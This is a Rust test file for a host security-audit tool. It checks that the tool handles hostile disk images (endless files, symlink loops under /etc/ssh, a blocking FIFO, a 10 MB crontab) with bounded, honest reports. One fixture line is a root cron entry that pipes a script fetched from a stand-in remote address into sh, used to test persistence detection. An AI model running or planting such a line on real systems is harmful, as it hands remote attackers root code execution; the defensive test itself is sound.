//! Hostile hosts (issue 19): files that never end, symlink loops under /etc/ssh, a FIFO nobody
//! writes, a huge crontab. Not timed: each run must end with a valid, bounded report in which
//! every check has a result, no probe panicked, and the checks say what they could not read or
//! what they cut. The timings at scale are `benches/hostile.sh` (README "Large and hostile hosts").

use crate::common::*;
use std::path::Path;

/// A copy of the healthy fixture root to make hostile.
fn healthy_copy() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    let status = std::process::Command::new("cp")
        .arg("-a")
        .arg(format!("{}/.", fixture_root("healthy").display()))
        .arg(dir.path())
        .status()
        .expect("cp");
    assert!(status.success(), "cp -a of the healthy root");
    dir
}

/// Replaces `rel` under `root` with a symlink to `target`.
fn link(root: &Path, rel: &str, target: &str) {
    let at = root.join(rel);
    std::fs::create_dir_all(at.parent().expect("parent")).expect("mkdir");
    let _ = std::fs::remove_file(&at);
    std::os::unix::fs::symlink(target, &at).expect("symlink");
}

/// Every check has a verdict, none is an internal error (a probe that panicked), and the report
/// stays small (no reader copied an endless file into it).
fn sane(r: &serde_json::Value) {
    let text = serde_json::to_string(r).expect("json");
    assert!(text.len() < 2_000_000, "the report is {} bytes", text.len());
    for c in r["checks"].as_array().expect("checks") {
        let status = c["status"].as_str().unwrap_or_default();
        assert!(["ok", "warn", "crit", "error", "skipped"].contains(&status), "{c:#}");
        assert!(!c.to_string().contains("internal error"), "a probe panicked: {c:#}");
    }
}

/// Evidence and messages of a check's findings, as one string.
fn said(r: &serde_json::Value, id: &str) -> String {
    check(r, id).to_string()
}

/// /proc files, configuration files and logs that never end (symlinks to /dev/zero and
/// /dev/urandom, as a corrupt or malicious rescued disk can hold): every reader stops at its cap.
#[test]
fn files_that_never_end() {
    const ENDLESS: &[&str] = &[
        "proc/meminfo",
        "proc/loadavg",
        "proc/stat",
        "proc/uptime",
        "proc/diskstats",
        "proc/net/tcp",
        "proc/net/udp",
        "proc/net/route",
        "proc/net/dev",
        "proc/self/mountinfo",
        "proc/sys/fs/file-nr",
        "proc/4242/stat",
        "proc/4242/status",
        "proc/4242/cmdline",
        "etc/ssh/sshd_config",
        "etc/crontab",
        "etc/fstab",
        "etc/resolv.conf",
        "etc/shadow",
        "etc/sudoers",
        "etc/passwd",
        "etc/group",
        "var/log/auth.log",
        "var/log/kern.log",
    ];
    for dev in ["/dev/zero", "/dev/urandom"] {
        let root = healthy_copy();
        for rel in ENDLESS {
            link(root.path(), rel, dev);
        }
        let Some((r, code)) = run_json(root.path(), &[]) else { return };
        assert!(code <= 3, "{dev}: exit {code}");
        sane(&r);
        // Every message and evidence line is bounded (values quoted from a file are cut).
        for c in r["checks"].as_array().expect("checks") {
            let summary = c["summary"].as_str().unwrap_or_default().chars().count();
            assert!(summary < 2500, "{dev}: {}: summary of {summary} characters", c["id"]);
        }
        // A log that is a device is read for one block, and the check says so.
        let auth = said(&r, "sec.auth.bruteforce");
        assert!(
            auth.contains("not a regular file (a device or a pipe): only its first 1 MiB were read"),
            "{dev}: {auth:.2000}"
        );
        // Garbage is never taken for a value, however many numbers it happens to hold.
        assert_eq!(status_of(&r, "sys.limits.files"), "error", "{dev}: {:#}", check(&r, "sys.limits.files"));
        // A file of garbage lines is a handful of findings, not one per line.
        let fstab = check(&r, "disk.fstab.entries")["findings"].as_array().map_or(0, Vec::len);
        assert!(fstab <= 20, "{dev}: {fstab} fstab findings");
        if dev == "/dev/zero" {
            // What could not be understood is said, and what is quoted of it is cut short.
            let load = check(&r, "sys.cpu.load");
            assert_eq!(load["status"], "error", "{dev}: {load:#}");
            let message = load["findings"][0]["message"].as_str().unwrap_or_default();
            assert!(message.contains("not in the expected format"), "{dev}: {load:#}");
            assert!(message.chars().count() < 2200 && message.ends_with('…'), "{dev}: {message:.300}");
            let memory = said(&r, "sys.memory.available");
            assert!(memory.contains("truncated or corrupt"), "{dev}: {memory:.2000}");
        }
        for c in r["checks"].as_array().expect("checks") {
            for f in c["findings"].as_array().into_iter().flatten() {
                for e in f["evidence"].as_array().into_iter().flatten() {
                    let n = e.as_str().unwrap_or_default().chars().count();
                    assert!(n <= 2001, "{dev}: {}: evidence of {n} characters", c["id"]);
                }
            }
        }
    }
}

/// Symlink loops under /etc/ssh: an Include glob that matches a link to itself and two links to
/// each other, an Include through a directory link to its parent, a host key linked to itself.
/// The run ends; the SSH checks name the loop (ELOOP) instead of judging a config they could not
/// read (sshd itself refuses to start on an unreadable Include).
#[test]
fn symlink_loops_under_etc_ssh() {
    let root = healthy_copy();
    let ssh = root.path().join("etc/ssh");
    link(root.path(), "etc/ssh/sshd_config.d/loop.conf", "loop.conf");
    link(root.path(), "etc/ssh/sshd_config.d/a.conf", "b.conf");
    link(root.path(), "etc/ssh/sshd_config.d/b.conf", "a.conf");
    link(root.path(), "etc/ssh/sshd_config.d/up", "..");
    link(root.path(), "etc/ssh/self", ".");
    link(root.path(), "etc/ssh/ssh_host_loop_key", "ssh_host_loop_key");
    let mut config = std::fs::read_to_string(ssh.join("sshd_config")).expect("sshd_config");
    config.push_str(
        "Include /etc/ssh/sshd_config.d/*.conf\nInclude /etc/ssh/self/self/self/sshd_config\n\
         Include /etc/ssh/sshd_config.d/up/sshd_config.d/up/*\n",
    );
    std::fs::write(ssh.join("sshd_config"), config).expect("write");
    let Some((r, code)) = run_json(root.path(), &[]) else { return };
    assert!(code <= 3);
    sane(&r);
    for id in ["sec.ssh.root-login", "sec.ssh.password-auth", "sec.ssh.empty-passwords"] {
        assert_eq!(status_of(&r, id), "error", "{:#}", check(&r, id));
        assert!(said(&r, id).contains("ELOOP"), "{:#}", check(&r, id));
    }
}

/// A FIFO nobody writes where sshd_config and /proc/meminfo should be: opening it blocks
/// forever. The checks that read them end at their timeout, the run at its deadline.
#[test]
fn a_fifo_nobody_writes_ends_at_the_deadline() {
    let root = healthy_copy();
    for rel in ["etc/ssh/sshd_config", "proc/meminfo"] {
        let at = root.path().join(rel);
        std::fs::remove_file(&at).expect("rm");
        let ok = std::process::Command::new("mkfifo").arg(&at).status().expect("mkfifo");
        assert!(ok.success(), "mkfifo {rel}");
    }
    let Some((r, code)) =
        run_json(root.path(), &["--deadline", "2", "--only", "sec.ssh.root-login", "--only", "sys.memory"])
    else {
        return;
    };
    assert!(code <= 3);
    sane(&r);
    let c = check(&r, "sec.ssh.root-login");
    assert_eq!(c["status"], "error", "{c:#}");
    assert_eq!(c["findings"][0]["code"], "ETIMEDOUT", "{c:#}");
}

/// A 10 MB crontab of suspicious lines: the reader keeps the first 1 MiB and the check says so,
/// and names 20 lines and how many more there are instead of a finding per line.
#[test]
fn a_huge_crontab_is_cut_and_says_so() {
    let root = healthy_copy();
    let line = "* * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n";
    std::fs::write(root.path().join("etc/crontab"), line.repeat(10_000_000 / line.len())).expect("crontab");
    let Some((r, code)) = run_json(root.path(), &["--only", "sec.persistence.cron"]) else { return };
    assert_eq!(code, 2, "suspicious cron lines are crit");
    sane(&r);
    let c = check(&r, "sec.persistence.cron");
    let findings = c["findings"].as_array().expect("findings");
    assert_eq!(findings.len(), 20, "{c:#}");
    let text = c.to_string();
    assert!(text.contains("/etc/crontab: only the first 1024 KiB were read (file too large)"), "{text:.3000}");
    assert!(text.contains("more suspicious lines not listed"), "{text:.3000}");
}
